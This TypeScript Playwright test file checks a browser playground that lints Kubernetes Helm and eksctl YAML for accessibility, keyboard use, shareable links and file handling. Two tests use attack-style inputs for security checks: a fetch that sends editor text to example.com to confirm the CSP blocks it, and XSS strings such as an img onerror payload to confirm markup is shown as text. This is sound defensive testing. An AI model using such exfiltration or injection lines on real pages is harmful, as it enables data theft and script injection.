import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { AxeResults } from "axe-core";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { playground } from "../../scripts/build-playground.ts";
import { ARTICLES } from "../../scripts/articles.ts";
import { findChromium, launchChromium } from "../support/chromium.ts";

const chromium = findChromium();
if (typeof chromium !== "string") console.warn(`SKIPPED: the playground in a browser. ${chromium.missing}`);

const folder = mkdtempSync(path.join(tmpdir(), "playground-"));
const address = pathToFileURL(path.join(folder, "index.html")).href;
let browser: Browser | undefined;
const opened: BrowserContext[] = [];
/** What a page did that it must not: requests, errors, words in the console. */
const troubles: string[] = [];

interface Look {
  readonly scheme?: "light" | "dark";
  readonly width?: number;
  readonly bypassCSP?: boolean;
  readonly fragment?: string;
}

async function open({ scheme = "light", width = 1280, bypassCSP = false, fragment = "" }: Look = {}): Promise<Page> {
  const context = await browser?.newContext({ colorScheme: scheme, viewport: { width, height: 900 }, bypassCSP });
  if (context === undefined) throw new Error("no browser");
  opened.push(context);
  const page = await context.newPage();
  page.on("pageerror", ({ message }) => troubles.push(`error: ${message}`));
  page.on("console", (message) => troubles.push(`console: ${message.text()}`));
  // Of the context: what the worker asks for counts as well. Its own text is a blob of the page.
  context.on("request", (request) => {
    if (request.url().split("#")[0] !== address && !request.url().startsWith("blob:"))
      troubles.push(`request: ${request.url()}`);
  });
  await page.goto(`${address}${fragment}`);
  await page.waitForSelector("html[data-answered]", { timeout: 10_000 });
  return page;
}

/** Does something that changes the input, and waits for what the rules say then. */
async function after(page: Page, act: () => Promise<void>): Promise<void> {
  const before = await page.getAttribute("html", "data-answered");
  await act();
  await page.waitForSelector(`html:not([data-answered="${before ?? ""}"])`, { timeout: 10_000 });
}

const rules = (page: Page): Promise<string[]> => page.locator("#findings .rule").allInnerTexts();
const text = (page: Page): Promise<string> => page.locator(".cm-content").innerText();

async function write(page: Page, value: string): Promise<void> {
  await page.locator(".cm-content").focus();
  await page.keyboard.press("Control+a");
  await after(page, () => page.keyboard.insertText(value));
}

beforeAll(async () => {
  writeFileSync(path.join(folder, "index.html"), await playground());
  if (typeof chromium === "string") browser = await launchChromium(chromium);
});
afterEach(async () => {
  await Promise.all(opened.splice(0).map((context) => context.close()));
  const found = troubles.splice(0);
  if (found.length > 0) throw new Error(found.join("\n"));
});
afterAll(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true });
});

describe.skipIf(typeof chromium !== "string")("the playground in Chromium", () => {
  test.each<Look>([{}, { scheme: "dark" }, { width: 390 }])("has nothing that keeps anybody out: %o", async (look) => {
    const page = await open({ ...look, bypassCSP: true });
    await page.addScriptTag({ path: createRequire(import.meta.url).resolve("axe-core/axe.min.js") });
    const { violations } = await page.evaluate<AxeResults>("axe.run()");
    expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html ?? ""}`)).toEqual([]);
    expect(await page.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
  });

  test("judges while somebody types, beside the line, with reason, source and fix", async () => {
    const page = await open();
    await write(page, "eni: { enabled: true }\nipam: { mode: eni }\ntunnel: disabled\n");
    expect(await rules(page)).toContain("helm-values-key-fails");
    const card = page.locator(".finding", { hasText: "helm-values-key-fails" });
    expect(await card.innerText()).toMatch(/values\.yaml:3[^]*Fix[^]*Why[^]*Source/);
    expect(await page.locator(".cm-line.marked", { hasText: "tunnel" }).locator(".remark.error").innerText()).toContain(
      "routingMode",
    );
    await write(page, "eni: { enabled: true }\nipam: { mode: eni }\nroutingMode: native\n");
    expect(await rules(page)).not.toContain("helm-values-key-fails");
    expect(await page.locator(".cm-line.marked.error", { hasText: "routingMode" }).count()).toBe(0);
  });

  test("lets nothing out, even where a script would", async () => {
    const page = await open();
    await page.evaluate(
      `fetch("https://example.com/?" + document.querySelector(".cm-content").innerText).catch(() => undefined)`,
    );
    const [said = "", ...others] = troubles.splice(0);
    expect(said).toMatch(/Content Security Policy directive: "default-src 'none'"/);
    expect(others.filter((one) => one.startsWith("request:"))).toEqual([]);
  });

  test("carries the input in a link that no server sees", async () => {
    const page = await open();
    await write(page, "kubeProxyReplacement: maybe # ü\n");
    await after(page, async () => void (await page.selectOption("#chart", "1.18.12")));
    await after(page, () => page.uncheck("#eks"));
    await page.click("#link");
    await page.waitForURL(/#1\./);
    const found = await rules(page);
    const fragment = new URL(page.url()).hash;
    const other = await open({ fragment });
    expect(await text(other)).toContain("kubeProxyReplacement: maybe # ü");
    expect(await other.inputValue("#chart")).toBe("1.18.12");
    expect(await other.isChecked("#eks")).toBe(false);
    expect(await rules(other)).toEqual(found);
  });

  test("says of a link that is none of its own what is wrong, and keeps what is there", async () => {
    const page = await open({ fragment: "#1.AAAA" });
    for (const fragment of ["#1.!!!", "#2.x", "#1.", "#1.q1ZKyy9KL1ayiq6uBQA="]) {
      expect(await page.locator("#said").innerText()).toMatch(/^The link cannot be read: /);
      await page.evaluate(`document.querySelector("#said").textContent = ""; location.hash = "${fragment}"`);
      await page.waitForSelector("#said:not(:empty)");
    }
    expect(await text(page)).toContain("eni:");
  });

  test("is used with the keyboard alone", async () => {
    const page = await open();
    await page.locator(".where").first().focus();
    await page.keyboard.press("Enter");
    expect(await page.locator(":focus").getAttribute("aria-label")).toBe("values.yaml");
    const line = () => page.locator(".cm-activeLineGutter.cm-gutterElement", { hasText: /\d/ }).innerText();
    const before = await line();
    await page.keyboard.press("F8");
    await page.keyboard.press("F8");
    expect(await line()).not.toBe(before);
    expect(await page.locator(".finding.here").count()).toBeGreaterThan(0);
    // Tab leaves the editor.
    await page.keyboard.press("Tab");
    expect(await page.locator(":focus").getAttribute("class")).toContain("where");
    await page.focus("#add");
    await after(page, async () => {
      await page.keyboard.press("Enter");
      await page.keyboard.insertText(
        "kind: Gateway\napiVersion: gateway.networking.k8s.io/v1\nmetadata: { name: a }\nspec: {}\n",
      );
    });
    expect(await page.locator("[role=tab]").allInnerTexts()).toHaveLength(2);
    await page.locator("[role=tab][aria-selected=true]").focus();
    await page.keyboard.press("ArrowLeft");
    expect(await page.locator(":focus").innerText()).toMatch(/^values\.yaml/);
    expect(await page.locator(".cm-content").getAttribute("aria-label")).toBe("values.yaml");
    await after(page, () => page.keyboard.press("Delete"));
    expect(await page.locator("[role=tab]").count()).toBe(1);
    expect(await text(page)).toContain("kind: Gateway");
  });

  test("takes files that are opened or dropped, and shows each example", async () => {
    const page = await open();
    const eksctl = "apiVersion: eksctl.io/v1alpha5\nkind: ClusterConfig\nmetadata: { name: a, region: eu-west-1 }\n";
    await after(page, () =>
      page.setInputFiles("#picker", { name: "cluster.yaml", mimeType: "text/yaml", buffer: Buffer.from(eksctl) }),
    );
    expect(await page.locator("[role=tab][aria-selected=true]").innerText()).toContain("cluster.yaml");
    await after(page, async () => {
      await page.evaluate(`(() => {
        const transfer = new DataTransfer();
        transfer.items.add(new File(["not: [a list"], "dropped.yaml"));
        document.querySelector(".cm-content").dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
      })()`);
    });
    expect(await page.locator("[role=tab]").count()).toBe(3);
    expect(await page.locator("#findings").innerText()).toMatch(/cannot be read\s+dropped\.yaml:/i);
    for (const [at, { files }] of ARTICLES.entries()) {
      await after(page, async () => void (await page.selectOption("#example", String(at))));
      expect(await page.locator("[role=tab]").count()).toBe(Object.keys(files).length);
      expect((await rules(page)).length).toBeGreaterThan(0);
    }
  });

  test("takes markup of an input for text", async () => {
    const page = await open();
    await write(page, '"<img src=x onerror=alert(1)>": "</script><script>alert(1)</script>"\neni: { enabled: true }\n');
    expect(await page.locator("#findings img, #findings script").count()).toBe(0);
  });
});
